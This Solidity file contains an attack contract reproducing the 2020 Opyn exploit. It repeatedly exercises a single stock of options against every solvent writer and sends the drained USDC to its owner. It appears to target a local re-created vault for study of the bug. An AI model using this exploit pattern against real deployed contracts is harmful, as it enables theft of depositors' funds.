// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

import {IERC20} from "../base/Interfaces.sol";
import {OptionsVault} from "../protocol/OptionsVault.sol";
import {OptionToken} from "../tokens/OptionToken.sol";

/// @notice The attack on Opyn (August 2020): one stock of options exercised against every writer in the list.
contract AttackOption {
    uint256 private constant ONE_OPTION = 1e18;

    address public immutable owner;
    OptionsVault public immutable vault;
    uint256 public immutable seriesId;
    address[] private writers;

    error NotOwner(address account);
    error NothingLeft();

    constructor(OptionsVault vault_, uint256 seriesId_, address[] memory writers_) {
        owner = msg.sender;
        vault = vault_;
        seriesId = seriesId_;
        writers = writers_;
    }

    /// @notice Exercises at most `amount` options, once for each writer that can still pay; cash to the owner.
    function run(uint256 amount) external {
        if (msg.sender != owner) revert NotOwner(msg.sender);
        uint256 most = _most();
        if (most == 0) revert NothingLeft();
        if (amount > most) amount = most;
        vault.exercise(seriesId, amount, _solvent(amount));
        IERC20 usdc = vault.usdc();
        usdc.transfer(owner, usdc.balanceOf(address(this)));
    }

    /// @notice True where another run would take nothing.
    function exhausted() external view returns (bool) {
        return _most() == 0;
    }

    /// @dev The richest writer's cash, or our stock of options, whichever is less.
    function _most() private view returns (uint256 most) {
        uint256 payoff = vault.payoff(seriesId);
        for (uint256 i = 0; i < writers.length; i++) {
            uint256 affordable = (_collateralOf(writers[i]) * ONE_OPTION) / payoff;
            if (affordable > most) most = affordable;
        }
        (OptionToken token,,) = vault.series(seriesId);
        uint256 stock = token.balanceOf(address(this));
        if (most > stock) most = stock;
    }

    function _solvent(uint256 amount) private view returns (address[] memory list) {
        uint256 payment = (amount * vault.payoff(seriesId)) / ONE_OPTION;
        list = new address[](writers.length);
        uint256 count;
        for (uint256 i = 0; i < writers.length; i++) {
            if (_collateralOf(writers[i]) >= payment) list[count++] = writers[i];
        }
        assembly {
            mstore(list, count)
        }
    }

    function _collateralOf(address writer) private view returns (uint256 collateral) {
        (collateral,) = vault.positions(seriesId, writer);
    }
}
